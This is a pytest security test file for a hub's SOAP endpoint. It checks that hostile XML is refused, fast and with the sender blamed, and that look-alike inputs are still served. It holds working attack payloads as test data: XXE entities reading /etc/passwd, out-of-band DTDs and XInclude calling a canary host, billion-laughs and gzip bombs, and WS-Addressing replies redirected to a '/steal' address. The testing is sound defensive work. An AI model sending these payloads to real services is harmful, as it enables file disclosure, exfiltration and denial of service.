"""Attacks on the SOAP door (SECURITY S1 to S7, S9, S14): each has its own fault in a second, nobody is called, look-alikes are served."""

from __future__ import annotations

import gzip
import time
import zlib
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from tests.e2e.soap import CONTENT_TYPES, SOAP_11, SOAP_12, WSA, Heard, envelope, say

if TYPE_CHECKING:
    from tests.e2e.hub import Running
    from tests.security.archive import Archive, Canary

pytestmark = pytest.mark.asyncio(loop_scope="module")

PATH = "/archive/1/soap"
ACTION = "urn:archive:1/store"
LONGEST_S = 1.0
MOST_MB = 64
OPEN, CLOSE = '<a:store xmlns:a="urn:archive:1"><a:name>', "</a:name></a:store>"
STORE = f"{OPEN}Hồ sơ{CLOSE}"
LIMIT = 1 << 20
FILLER = LIMIT - 2000


def around(body: str) -> str:
    return f'<s:Envelope xmlns:s="{SOAP_11}"><s:Body>{body}</s:Body></s:Envelope>'


def with_dtd(declarations: str, text: str = "&e;") -> str:
    return f"<!DOCTYPE x [{declarations}]>" + around(OPEN + text + CLOSE)


def rss_mb() -> float:
    return int(Path("/proc/self/statm").read_text(encoding="ascii").split()[1]) * 4 / 1024


async def attack(hub: Running, archive: Archive, content: str | bytes, **headers: str) -> Heard:
    """Say it; it is refused by the sender's fault, fast, in little memory, and the provider sees nothing."""
    before, started = rss_mb(), time.process_time()  # of hub and sender together; the clock on the wall would tell of other processes
    answer = await say(hub, content, path=PATH, **headers)
    assert time.process_time() - started < LONGEST_S
    assert rss_mb() - before < MOST_MB
    assert archive.seen == []
    assert answer.status < 500 or answer.code == "Client"
    assert answer.text("blame") == "consumer"
    return answer


async def served(hub: Running, content: str | bytes, version: str = SOAP_11, **headers: str) -> Heard:
    answer = await say(hub, content, version, path=PATH, **headers)
    assert (answer.status, answer.slug) == (200, "")
    return answer


# ---- S1, S2: entities ------------------------------------------------------------------------------------------------------------------

ENTITIES = {
    "file": with_dtd('<!ENTITY e SYSTEM "file:///etc/passwd">'),
    "http": with_dtd('<!ENTITY e SYSTEM "http://%(canary)s/x">'),
    "parameter": with_dtd('<!ENTITY %% p SYSTEM "http://%(canary)s/p.dtd"> %%p;'),
    "out of band": with_dtd('<!ENTITY %% f SYSTEM "file:///etc/hostname"><!ENTITY %% d SYSTEM "http://%(canary)s/d.dtd">%%d;'),
    "external subset": '<!DOCTYPE x SYSTEM "http://%(canary)s/x.dtd">' + around(STORE),
    "public": '<!DOCTYPE x PUBLIC "-//X//Y" "http://%(canary)s/x.dtd">' + around(STORE),
    "empty doctype": "<!DOCTYPE x>" + around(STORE),
    "after a comment": "<?xml version='1.0'?><!-- a --> <?p i?>" + with_dtd('<!ENTITY e "x">'),
    "internal": with_dtd('<!ENTITY e "x">'),
    "billion laughs": with_dtd(
        "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(1, 12)) + '<!ENTITY b "ha">', "&m;"
    ),
    "quadratic": with_dtd(f'<!ENTITY e "{"x" * 10_000}">', "&e;" * 10_000),
    "cyclic": with_dtd('<!ENTITY e "&f;"><!ENTITY f "&e;">'),
    "in an attribute": with_dtd('<!ENTITY e "x">', "x").replace("<s:Body>", '<s:Body a="&e;">'),
    "attribute defaults": with_dtd('<!ATTLIST x a CDATA "x">', "x"),
}


@pytest.mark.parametrize("name", ENTITIES)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
async def test_a_doctype_is_refused_whatever_it_declares(hub: Running, archive: Archive, canary: Canary, name: str, encoding: str) -> None:
    text = ENTITIES[name] if "%%" not in ENTITIES[name] and "%(" not in ENTITIES[name] else ENTITIES[name] % {"canary": canary.address}

    answer = await attack(hub, archive, text.encode(encoding), Content_Type=f"text/xml; charset={encoding}")

    assert (answer.status, answer.slug) == (400, "malformed-body")
    assert b"DOCTYPE" in answer.content


async def test_no_document_of_the_corpus_of_attacks_gets_in(hub: Running, archive: Archive, corpora: Path) -> None:
    documents = sorted((corpora / "xml-attacks" / "xmltestdata").glob("*.x*"))

    alone = [await attack(hub, archive, document.read_bytes()) for document in documents]
    inside = [
        await attack(hub, archive, document.read_text(encoding="utf-8").partition("<root")[0] + around(STORE))
        for document in documents
        if b"<!DOCTYPE" in document.read_bytes()
    ]

    assert len(documents) >= 12
    assert {(answer.status, answer.slug) for answer in [*alone, *inside]} == {(400, "malformed-body")}


@pytest.mark.parametrize(
    "text",
    [
        "&lt;!DOCTYPE x [&lt;!ENTITY e &quot;x&quot;&gt;]&gt;",
        "<![CDATA[<!DOCTYPE x [<!ENTITY e 'x'>]>&e;]]>",
        "&#60;!ENTITY&#62; &amp;e; &#x20AC;",
    ],
)
async def test_a_text_that_looks_like_a_doctype_is_served(hub: Running, archive: Archive, text: str) -> None:
    await served(hub, around(OPEN + text + CLOSE))

    assert len(archive.seen) == 1


@pytest.mark.parametrize(
    "include",
    [
        '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="http://%s/x"/>',
        '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
        '<x xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x http://%s/x.xsd"/>',
    ],
)
async def test_includes_and_schema_locations_are_never_followed(hub: Running, archive: Archive, canary: Canary, include: str) -> None:
    content = include % canary.address if "%s" in include else include

    answer = await attack(hub, archive, around(OPEN + content + CLOSE))

    assert answer.slug == "body-invalid"


async def test_a_schema_location_beside_a_good_body_changes_nothing(hub: Running, archive: Archive, canary: Canary) -> None:
    located = f'xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="urn:archive:1 http://{canary.address}/x.xsd" '

    await served(hub, around(STORE).replace("<s:Envelope ", f"<s:Envelope {located}"))

    assert len(archive.seen) == 1


# ---- S3, S4: coercive parsing ----------------------------------------------------------------------------------------------------------

FLOODS = {
    "100,000 nested": around("<x>" * 100_000 + "</x>" * 100_000),
    "300 nested": around("<x>" * 300 + "</x>" * 300),
    "attributes": around("<x " + " ".join(f'a{n}=""' for n in range(90_000)) + "/>"),
    "attributes of one element below the limit": around("<x " + " ".join(f'a{n}=""' for n in range(40_000)) + "/>"),
    "siblings": around("<x/>" * 200_000),
    "siblings below the limit": around("<x/>" * 90_000),
    "a long name": around(f"<{'x' * FILLER}/>"),
    "a long attribute": around(f'<x a="{"x" * FILLER}"/>'),
    "namespaces": around("<x " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(40_000)) + "/>"),
    "comments": around("<!---->" * 140_000),
    "processing instructions": around("<?x?>" * 190_000),
    "character references": around("<x>" + "&#65;" * 190_000 + "</x>"),
    "not closed": around("<x>")[: -len("</s:Body></s:Envelope>")],
    "larger than the limit": around(OPEN + "x" * (2 << 20) + CLOSE),
}


@pytest.mark.parametrize("name", FLOODS)
async def test_a_flood_is_refused_in_time(hub: Running, archive: Archive, name: str) -> None:
    answer = await attack(hub, archive, FLOODS[name])

    assert (answer.status, answer.slug) in {(400, "malformed-body"), (413, "body-too-large")}


async def test_time_grows_no_faster_than_the_number_of_attributes(hub: Running, archive: Archive) -> None:
    """S4: names that collide in a weak hash (multiples of 2**16 in libxml2's old one, permutations) cost what others cost."""

    async def best_s(count: int) -> float:
        names = " ".join(f'{"a" * (n % 7)}{n:05d}{"b" * (n % 5)}z=""' for n in range(count))
        content, times = around(f"<x {names}/>".replace(" 0", " k0").replace(" 1", " k1")), []
        for _ in range(3):
            started = time.process_time()
            await attack(hub, archive, content)
            times.append(time.process_time() - started)
        return min(times)

    small, large = await best_s(3_000), await best_s(30_000)

    assert large / small < 12


async def test_what_is_merely_large_is_served(hub: Running, archive: Archive) -> None:
    await served(hub, around(OPEN + "x" * (900 << 10) + CLOSE))
    await served(hub, around("<!-- x -->" * 500 + STORE))

    assert len(archive.seen) == 2


# ---- S5: compressed bodies -------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "gzip, gzip", "x-gzip"])
async def test_a_compressed_body_is_not_unpacked(hub: Running, archive: Archive, encoding: str) -> None:
    bomb = gzip.compress(bytes(50 << 20)) if "gzip" in encoding else zlib.compress(bytes(50 << 20))

    answer = await attack(hub, archive, bomb, Content_Encoding=encoding)

    assert (answer.status, answer.slug) == (415, "media-type-unsupported")


async def test_a_body_that_says_it_is_as_it_is_is_served(hub: Running, archive: Archive) -> None:
    await served(hub, around(STORE), Content_Encoding="identity")

    assert len(archive.seen) == 1


# ---- S6: SOAPAction ----------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("action", ['"urn:archive:1/note"', "urn:archive:1/note", '"delete"', f'"{ACTION} "', f'"{ACTION}', "''"])
async def test_an_action_that_is_not_the_bodys_is_refused_and_recorded(hub: Running, archive: Archive, action: str) -> None:
    answer = await attack(hub, archive, around(STORE), SOAPAction=action)

    closed = (await hub.hub.office.inspection.timeline(answer.headers["lgsp-message-id"]))[-1]
    assert (answer.slug, answer.code) == ("action-mismatch", "Client")
    assert (closed.event, closed.facts["cause"], closed.facts["blame"]) == ("closed", "action-mismatch", "consumer")


@pytest.mark.parametrize("parameter", ['action="urn:archive:1/note"', "action=delete"])
async def test_in_soap_12_too(hub: Running, archive: Archive, parameter: str) -> None:
    kind = f"{CONTENT_TYPES[SOAP_12]}; {parameter}"

    answer = await say(hub, envelope(STORE, version=SOAP_12), SOAP_12, PATH, Content_Type=kind)

    assert (answer.status, answer.slug, archive.seen) == (400, "action-mismatch", [])


@pytest.mark.parametrize("action", [f'"{ACTION}"', ACTION, '""', "", "urn:archive:1:Archive:storeRequest"])
async def test_the_right_action_or_none_is_served(hub: Running, archive: Archive, action: str) -> None:
    await served(hub, around(STORE), SOAPAction=action)
    await served(hub, envelope(STORE, version=SOAP_12), SOAP_12, Content_Type=f'{CONTENT_TYPES[SOAP_12]}; action="{ACTION}"')

    assert len(archive.seen) == 2


async def test_the_right_is_asked_for_the_operation_of_the_body(hub: Running, archive: Archive) -> None:
    """An action names an operation that is allowed, the body one that is not: the body counts, and it is not there."""
    rights = [right for right in await hub.hub.office.rights.rights() if right.operation == "store"]
    await hub.hub.office.rights.withdraw(rights[0], "test", hub.hub.office.now())
    await hub.hub.store.refresh()
    try:
        spoofed = await say(hub, around(STORE), path=PATH, SOAPAction='"urn:archive:1/note"')
        plain = await say(hub, around(STORE), path=PATH)
    finally:
        await hub.hub.office.rights.grant(rights[0], "test", hub.hub.office.now())
        await hub.hub.store.refresh()

    assert [(answer.status, answer.slug) for answer in (spoofed, plain)] == [(404, "not-found")] * 2
    assert archive.seen == []


# ---- S7: WS-Addressing -------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["ReplyTo", "FaultTo"])
@pytest.mark.parametrize("address", ["http://%s/steal", "https://%s/steal", "file:///etc/passwd", "", "urn:somebody", f"{WSA}/anonymous#x"])
async def test_an_answer_goes_to_nobody_else(hub: Running, archive: Archive, canary: Canary, name: str, address: str) -> None:
    address = address % canary.address if "%s" in address else address
    blocks = f"<w:{name}><w:Address>{address}</w:Address></w:{name}><w:MessageID>urn:uuid:1</w:MessageID>"

    answer = await attack(hub, archive, envelope(STORE, blocks))

    assert answer.slug == "reply-address-refused"


@pytest.mark.parametrize("to", ["http://%s/steal", "http://%s/archive/1/soap/x", "urn:somebody", "http://["])
async def test_a_message_to_something_else_is_refused(hub: Running, archive: Archive, canary: Canary, to: str) -> None:
    answer = await attack(hub, archive, envelope(STORE, f"<w:To>{to % canary.address if '%s' in to else to}</w:To>"))

    assert answer.slug == "reply-address-refused"


async def test_two_addresses_are_one_too_many(hub: Running, archive: Archive) -> None:
    reply_to = f"<w:ReplyTo><w:Address>{WSA}/anonymous</w:Address></w:ReplyTo>"

    answer = await attack(hub, archive, envelope(STORE, reply_to + reply_to))

    assert answer.slug == "malformed-request"


async def test_the_usual_addresses_are_served(hub: Running, archive: Archive, canary: Canary) -> None:
    blocks = f"<w:To>http://{canary.address}{PATH}</w:To><w:ReplyTo><w:Address>{WSA}/anonymous</w:Address></w:ReplyTo>"
    old_space = "http://schemas.xmlsoap.org/ws/2004/08/addressing"
    old = f'<o:ReplyTo xmlns:o="{old_space}"><o:Address>http://{canary.address}/</o:Address></o:ReplyTo>'

    await served(hub, envelope(STORE, blocks))
    await served(hub, envelope(STORE, old))

    assert len(archive.seen) == 2


# ---- S9: text that a comment cuts ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("cut", ["<!---->", "<!-- x -->", "<?x?>", "<![CDATA[]]>"])
async def test_no_comment_cuts_a_text(hub: Running, archive: Archive, cut: str) -> None:
    answer = await served(hub, around(f"{OPEN}user@a{cut}.evil{CLOSE}"))

    assert answer.text("name") == "user@a.evil"
    assert b">user@a.evil<" in archive.seen[0]


# ---- S14: what the content is said to be -----------------------------------------------------------------------------------------------

UTF_16 = around(STORE).encode("utf-16")
CONFUSED: list[tuple[Any, str, int]] = [
    (around(STORE), "application/json", 415),
    (around(STORE), "application/xml", 415),
    (around(STORE), "text/html", 415),
    (around(STORE), "", 415),
    (around(STORE), "text/xml; charset=utf-7", 415),
    (around(STORE), "text/xml; charset=iso-8859-1", 415),
    (around(STORE), "text/xml; charset=utf-8; charset=utf-16", 400),
    (around(STORE), "text/xml; charset", 400),
    (around(STORE), 'text/xml; charset="utf-8', 400),
    (around(STORE), "application/soap+xml", 415),
    (b'{"name": "x"}', "text/xml", 400),
    (b"", "text/xml", 400),
    (b"\xff\xfe\x00", "text/xml", 400),
    (UTF_16, "text/xml; charset=utf-8", 400),
    (around(STORE).encode("utf-16-le"), "text/xml; charset=utf-8", 400),
    (b"\xef\xbb\xbf" + around(STORE).encode(), "text/xml; charset=utf-16", 400),
    ("<?xml version='1.0' encoding='utf-16'?>" + around(STORE), "text/xml; charset=utf-8", 400),
    ("<?xml version='1.0' encoding='utf-7'?>" + around(STORE), "text/xml", 415),
    ("<?xml version='1.0' encoding='iso-8859-1'?>" + around(STORE), "text/xml", 415),
    (around(STORE).encode("latin-1", "ignore").replace(b"name>H", b"name>H\xe9"), "text/xml", 400),
]


@pytest.mark.parametrize(("content", "kind", "status"), CONFUSED)
async def test_content_that_is_not_what_it_is_said_to_be_is_refused(
    hub: Running, archive: Archive, content: Any, kind: str, status: int
) -> None:
    answer = await attack(hub, archive, content, Content_Type=kind)

    assert answer.status == status


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (around(STORE), "text/xml"),
        (around(STORE), "TEXT/XML;charset=UTF-8"),
        (around(STORE), 'text/xml; charset="utf-8"'),
        (b"\xef\xbb\xbf" + around(STORE).encode(), "text/xml"),
        ("<?xml version='1.0' encoding='UTF-8'?>" + around(STORE), "text/xml; charset=utf-8"),
        (UTF_16, "text/xml"),
        (UTF_16, "text/xml; charset=utf-16"),
        ("<?xml version='1.0' encoding='UTF-16'?>".encode("utf-16") + around(STORE).encode("utf-16")[2:], "text/xml; charset=utf-16"),
    ],
)
async def test_the_two_encodings_of_soap_are_served(hub: Running, archive: Archive, content: Any, kind: str) -> None:
    answer = await served(hub, content, Content_Type=kind)

    assert answer.text("name") == "Hồ sơ"
    assert len(archive.seen) == 1


@pytest.mark.parametrize("name", ["Content-Type", "SOAPAction", "Authorization"])
async def test_a_header_that_is_there_twice_is_refused(hub: Running, archive: Archive, name: str) -> None:
    headers = [*hub.headers.items(), ("Content-Type", "text/xml"), ("SOAPAction", '""'), (name, dict(hub.headers).get(name, "text/xml"))]

    answer = await hub.client.post(hub.data + PATH, content=around(STORE).encode(), headers=headers)

    assert (answer.status_code, archive.seen) == (400, [])
